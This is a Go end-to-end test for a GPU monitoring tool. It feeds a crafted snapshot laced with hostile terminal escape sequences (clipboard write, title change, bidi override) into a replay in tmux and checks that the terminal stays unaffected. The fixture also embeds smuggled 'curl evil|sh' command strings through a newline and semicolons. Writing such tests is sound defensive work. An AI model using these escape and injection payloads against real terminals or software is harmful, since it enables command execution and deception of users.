package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gputop/gputop/model"
)

// hostileTerm is what the audit planted: an OSC 52 clipboard write (tmux
// buffer "echo PWNED"), a window title, a screen clear, leaving the
// alternate screen, a C1 CSI, a bidi override and a zero-width space.
const hostileTerm = "\x1b]52;c;ZWNobyBQV05FRAo=\x07\x1b]2;PWNED-TITLE\x07\x1b[2J\x1b[?1049l\u009b2J\u202eevil\u200b"

func writeHostileSnapshot(t *testing.T, path string) {
	t.Helper()
	t0 := time.Now().Add(-time.Minute).Truncate(time.Second)
	var recs []model.GPURecord
	for g := range 2 {
		rec := model.GPURecord{GPUInfo: model.GPUInfo{Index: g, Name: "H100" + hostileTerm, UUID: "GPU-" + hostileTerm,
			BusID: "0000:18:00.0" + hostileTerm, MemoryTotal: model.Some[uint64](80 << 30)}}
		for i := range 100 {
			at := model.TimestampOf(t0.Add(time.Duration(i) * 100 * time.Millisecond))
			rec.Samples = append(rec.Samples, model.Sample{Time: at, MemUsed: model.Some[uint64](10 << 30),
				MemTotal: model.Some[uint64](80 << 30), UtilGPU: model.Some[uint32](50)})
			if i%10 == 0 {
				var ps []model.Process
				for k := range 40 { // many rows: the table draws every row but the selected one plain
					ps = append(ps, model.Process{PID: uint32(4000 + k), GPUIndex: g, Kind: "compute", Resolved: true,
						User: "bob" + hostileTerm, Name: "py" + hostileTerm, Command: "python3 " + hostileTerm,
						UsedMemory: model.Some[uint64](1 << 30)})
				}
				rec.SlowSamples = append(rec.SlowSamples, model.SlowSample{Time: at, Processes: ps})
			}
		}
		recs = append(recs, rec)
	}
	snap := model.NewSnapshot(model.SnapshotInput{
		Created: t0.Add(10 * time.Second), Interval: 100 * time.Millisecond, SlowInterval: time.Second,
		System: model.System{Host: "host" + hostileTerm, DriverVersion: "580" + hostileTerm, Source: "nvml"},
		GPUs:   recs,
		Events: []model.Event{{Time: model.TimestampOf(t0.Add(time.Second)), GPU: model.Some(0), Kind: model.EventXid,
			Severity: model.SevError, Message: "Xid 79 " + hostileTerm}},
		Checks: []model.CheckResult{{ID: "x", Title: "planted" + hostileTerm, Status: model.Fail, Evidence: "ev" + hostileTerm,
			Fix: "fix" + hostileTerm, Commands: []string{"echo ok\ncurl evil|sh"}}},
		Facts:  model.Facts{Host: "h" + hostileTerm, NVCC: model.NVCCFacts{Found: true, Path: "/x;curl evil|sh;" + hostileTerm}},
		Redact: model.RedactOptions{FullCommandLines: true},
	})
	if err := snap.Save(path, model.FormatJSON); err != nil {
		t.Fatal(err)
	}
}

// TestE2EHostileReplay: issue 11 items 1 and 2 in a real terminal. A
// crafted snapshot is replayed (dashboard, process table, zoom, the checks)
// and judged with check --from; tmux's paste buffers stay empty (OSC 52 is
// allowed: set-clipboard on), the pane title stays, and the dashboard stays
// on the alternate screen until q.
func TestE2EHostileReplay(t *testing.T) {
	t.Parallel() // waits on tmux and timers, not the CPU (Makefile, test)
	bin := gputopBinary(t)
	dir := t.TempDir()
	snapPath := filepath.Join(dir, "hostile.json")
	writeHostileSnapshot(t, snapPath)

	s := newTmux(t, 160, 45)
	s.tmux("set-option", "-g", "set-clipboard", "on")
	s.tmux("set-option", "-g", "allow-rename", "on")
	s.typeLine(`printf '\033]2;baseline-title\033\\'; clear`)
	deadline := time.Now().Add(5 * time.Second)
	for s.title() != "baseline-title" && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if got := s.title(); got != "baseline-title" {
		t.Fatalf("could not set the baseline title: %q", got)
	}
	untouched := func(when string, wantAlt string) {
		t.Helper()
		if bufs := strings.TrimSpace(s.tmux("list-buffers")); bufs != "" {
			t.Fatalf("%s: tmux paste buffers were written: %q", when, bufs)
		}
		if got := s.title(); got != "baseline-title" {
			t.Fatalf("%s: the window title changed to %q", when, got)
		}
		if alt, _ := s.terminalState(); alt != wantAlt {
			t.Fatalf("%s: alternate screen %s, want %s", when, alt, wantAlt)
		}
	}

	s.typeLine(bin + " --replay " + snapPath + "; echo EX\"\"IT=$?")
	s.waitFor("REPLAY", 20*time.Second)
	time.Sleep(500 * time.Millisecond)
	untouched("first screen", "1")
	for _, k := range []string{"P", "Escape", "Enter", "Escape", "Tab", "Tab", "Enter"} {
		s.send(k)
		time.Sleep(300 * time.Millisecond)
		untouched("after "+k, "1")
	}
	scr := s.screen()
	if strings.Contains(scr, "curl evil") {
		t.Fatalf("the planted command is shown:\n%s", scr)
	}
	s.send("Escape")
	time.Sleep(300 * time.Millisecond) // Escape then q at once reads as alt+q
	s.send("q")
	s.waitFor("EXIT=0", 10*time.Second)
	untouched("after q", "0")

	s.typeLine("clear; " + bin + " check --from " + snapPath + "; echo EX\"\"IT=$?")
	s.waitFor("EXIT=", 15*time.Second)
	untouched("after check --from", "0")
	if _, err := os.Stat(snapPath); err != nil {
		t.Fatal(err)
	}
}

func (s *tmuxSession) title() string {
	s.t.Helper()
	return strings.TrimSpace(s.tmux("display-message", "-p", "-t", s.name, "#{pane_title}"))
}
